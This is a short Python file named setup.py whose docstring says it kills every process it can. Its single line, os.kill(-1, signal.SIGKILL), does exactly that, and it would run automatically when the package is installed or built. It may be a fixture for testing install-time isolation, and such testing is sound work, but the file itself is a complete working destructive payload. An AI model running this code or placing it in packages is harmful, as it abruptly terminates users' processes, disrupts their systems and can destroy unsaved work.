"""setup.py kills every process that it can."""

import os
import signal

os.kill(-1, signal.SIGKILL)
